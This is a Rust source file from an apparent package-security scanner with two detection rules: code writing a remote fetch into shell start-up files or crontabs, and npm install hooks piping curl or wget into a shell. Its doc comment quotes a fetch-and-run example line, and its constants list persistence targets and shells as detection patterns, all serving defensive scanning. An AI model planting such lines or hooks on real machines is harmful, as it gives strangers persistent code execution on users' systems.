//! Remote code planted where it runs by itself: a shell start-up file or crontab given a fetch
//! line by code, and an npm install hook piping a download into a shell (round 49m, held-out
//! set 27, `persistence.startup-remote-line`, `supply_chain.install-hook-pipe`).
//!
//! A program that opens `~/.bashrc`, `~/.zshrc`, `~/.profile` or a crontab for writing and writes
//! a string fetching from an outside host (`curl -s http://host/x | bash &`, a `curl` beacon every
//! minute) has made every new shell or every minute run the stranger's code; written through
//! `os.OpenFile` + `WriteString` or `open(…, "a")` it escapes the shell-redirect rules. An npm
//! `preinstall` / `install` / `postinstall` / `prepare` script that pipes `curl`/`wget` into a
//! shell runs an unreviewed remote script on every machine that installs the package.
//!
//! Facts, first rule, in one code file: a line naming a start-up file or crontab ([`STARTUP`]);
//! within [`NEAR`] lines a write ([`WRITES`]); within [`NEAR`] lines a quoted string where `curl` /
//! `wget` comes before a URL whose host is not local, a vendor's, an installer's or a registry's,
//! nor named after the skill, and what it fetches is piped into a shell (or the file is a
//! crontab, whose line runs by itself). Second rule, one line of a `package.json`: a lifecycle
//! key whose command pipes `curl`/`wget` into `sh`/`bash`/`zsh`/`node`/`python`, the host as
//! above. Both `critical`. Shell profiles only read, a PATH line appended, and install hooks
//! fetching from a vendor's installer host are not judged. One pass each over lowered lines.

use super::shapes::{found, is_code, judged, rel};
use super::{Bundle, host_named_after, hosts_in};
use crate::scan::content::Finding;
use crate::scan::hosts::HostClass;
use crate::scan::rules::Severity;

/// Files run by every new shell, or on a schedule (lower-case); also the gate.
pub(super) const STARTUP: &[&str] = &[
    ".bashrc",
    ".zshrc",
    ".bash_profile",
    "/.profile",
    ".zprofile",
    "config.fish",
    "crontabs/",
    "/etc/cron",
    "/etc/profile",
];
/// npm lifecycle keys (lower-case, quoted); also the gate of the second rule.
pub(super) const HOOKS: &[&str] = &[
    "\"preinstall\"",
    "\"install\"",
    "\"postinstall\"",
    "\"prepare\"",
];
/// Schedules: a fetch written into one runs by itself without a pipe (lower-case).
const CRON: &[&str] = &["crontabs/", "/etc/cron"];
/// Writes (lower-case).
const WRITES: &[&str] = &[
    "openfile(",
    "writestring(",
    "open(",
    "appendfile",
    "writefile",
    "write_text(",
    ".write(",
    "fprintf(",
];
/// Lines between the start-up file, its write and the fetch string.
const NEAR: usize = 6;
/// Shells and interpreters a download is piped into (lower-case, after `|`).
const SHELLS: &[&str] = &["sh", "bash", "zsh", "node", "python", "python3"];

/// Whether a host class is someone code may be fetched from.
fn trusted(class: &HostClass) -> bool {
    !class.is_outside()
}

/// Whether a lowered text pipes into a shell or interpreter (`| sh`, `|bash -s`).
fn pipes_to_shell(l: &str) -> bool {
    l.match_indices('|').any(|(i, _)| {
        let rest = l[i + 1..].trim_start();
        SHELLS.iter().any(|s| {
            rest.strip_prefix(s).is_some_and(|r| {
                r.is_empty() || r.starts_with([' ', '"', '\'', '&', ';', '\\', ')'])
            })
        })
    })
}

/// A stranger's host a fetch on this line names, if any.
fn stranger(line: &str, names: &[String]) -> Option<String> {
    hosts_in(line)
        .into_iter()
        .find(|h| !trusted(&h.class) && !host_named_after(&h.host, names))
        .map(|h| h.host)
}

pub(super) fn startup_remote_line(b: &Bundle<'_>, out: &mut Vec<Finding>) {
    let mut new = Vec::new();
    let names = b.name_words();
    for file in b.files.iter().filter(|f| is_code(f)) {
        if !file.words().any(STARTUP) {
            continue;
        }
        let lw = file.lowered();
        let low = &lw.lower;
        for (i, l) in low.iter().enumerate() {
            if !STARTUP.iter().any(|s| l.contains(s)) {
                continue;
            }
            let window = i.saturating_sub(NEAR)..low.len().min(i + NEAR + 1);
            if !window
                .clone()
                .any(|k| WRITES.iter().any(|w| low[k].contains(w)))
            {
                continue;
            }
            let cron = window
                .clone()
                .any(|k| CRON.iter().any(|c| low[k].contains(c)));
            let fetch = window.clone().find_map(|k| {
                let t = &low[k];
                let at = t.find("curl ").or_else(|| t.find("wget "))?;
                // The fetch comes before its address, inside a string, and it runs what it gets
                // (piped into a shell) or is itself the scheduled job.
                let url = t[at..].find("http")?;
                if !t.contains(['"', '\'', '`']) || !(pipes_to_shell(&t[at + url..]) || cron) {
                    return None;
                }
                stranger(lw.lines[k], &names).map(|h| (k, h))
            });
            let Some((k, host)) = fetch else { continue };
            if judged(b, out, file, k) || judged(b, out, file, i) {
                continue;
            }
            new.push(found(
                "persistence.startup-remote-line",
                "persistence",
                Severity::Critical,
                file,
                k,
                format!(
                    "{}:{}: the code writes a line fetching from {host} into a file that runs by itself — a shell start-up file or a crontab ({}:{}). Every new shell or every scheduled run then fetches and runs the stranger's code. Do not install this skill.",
                    file.path,
                    k + 1,
                    file.path,
                    i + 1
                ),
                vec![rel("start-up file", file, i)],
            ));
            break;
        }
    }
    out.extend(new);
}

pub(super) fn install_hook_pipe(b: &Bundle<'_>, out: &mut Vec<Finding>) {
    let mut new = Vec::new();
    let names = b.name_words();
    for file in &b.files {
        if !(file.path == "package.json" || file.path.ends_with("/package.json")) {
            continue;
        }
        let lw = file.lowered();
        for (i, l) in lw.lower.iter().enumerate() {
            if !HOOKS.iter().any(|h| l.starts_with(h))
                || !(l.contains("curl ") || l.contains("wget "))
                || !pipes_to_shell(l)
            {
                continue;
            }
            let Some(host) = stranger(lw.lines[i], &names) else {
                continue;
            };
            if judged(b, out, file, i) {
                continue;
            }
            new.push(found(
                "supply_chain.install-hook-pipe",
                "supply_chain",
                Severity::Critical,
                file,
                i,
                format!(
                    "{}:{}: an npm install hook downloads a script from {host} and pipes it straight into a shell. npm runs this by itself on every machine that installs the package, with nothing shown or checked. Do not install this skill.",
                    file.path,
                    i + 1
                ),
                vec![],
            ));
        }
    }
    out.extend(new);
}
